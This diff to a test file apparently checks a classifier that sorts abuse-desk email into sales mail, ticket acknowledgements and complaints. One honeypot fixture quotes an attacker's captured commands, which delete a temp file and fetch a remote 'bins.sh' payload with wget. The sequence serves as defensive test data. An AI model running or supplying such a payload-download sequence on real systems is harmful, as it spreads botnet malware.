@@ -81,6 +81,26 @@ describe('what is put aside', () => {
       },
       'notice',
     ],
+    [
+      'a mailing that sells, although it names an exit and the lists that this stands on',
+      {
+        from: 'Blair <blair@warmer.example>',
+        subject: '198.51.100.10 has a reputation problem',
+        header: 'List-Unsubscribe: <mailto:out@warmer.example>',
+        body: 'I saw 198.51.100.10 on two blacklists. We helped 400 teams get clean. Do you have 15 minutes on Thursday for a quick demo?',
+      },
+      'unrelated',
+    ],
+    [
+      'a receipt that tells what belongs to the police',
+      {
+        from: 'Support <support@hosting.example>',
+        subject: '[Case 88172] We received your message',
+        header: 'Auto-Submitted: auto-replied',
+        body: 'Your request "attack from 198.51.100.10" has been put in our queue with number 88172. Threats and extortion must be reported to the police.',
+      },
+      'ticket-ack',
+    ],
   ])('%s', async (_, sample, kind) => {
     expect(await judged(sample)).toEqual({ kind, automated: true, handling: 'none' });
   });
@@ -88,6 +108,29 @@ describe('what is put aside', () => {
   it('a word or two without any mark of a program was typed by a person', async () => {
     const found = await judged({ from: 'a@b.example', subject: 'test', body: 'hello hello' });
     expect(found).toEqual({ kind: 'unrelated', automated: false, handling: 'none' });
+  });
+});
+
+describe('what a standard letter answers', () => {
+  it.each<[string, Sample]>([
+    [
+      'a trap that shows the commands it was given, as a field',
+      {
+        from: 'Honey <cron@jar.example>',
+        subject: 'one new visitor',
+        body: 'src=198.51.100.10 proto=telnet first=1794215526 tries=14\r\ncmds=/bin/busybox KILL; rm -f /tmp/.die; wget http://203.0.113.9/bins.sh',
+      },
+    ],
+  ])('%s', async (_, sample) => {
+    expect(await judged(sample)).toMatchObject({ kind: 'complaint', handling: 'letter' });
+  });
+
+  it('never somebody of whom a mail only says that they spoke, where nothing else is told', async () => {
+    const sample = {
+      subject: 'A question',
+      body: 'They said that your address 198.51.100.10 wrote on 9 November.\r\nSam Doyle',
+    };
+    expect(await judged(sample)).toMatchObject({ kind: 'complaint', handling: 'person' });
   });
 });
 
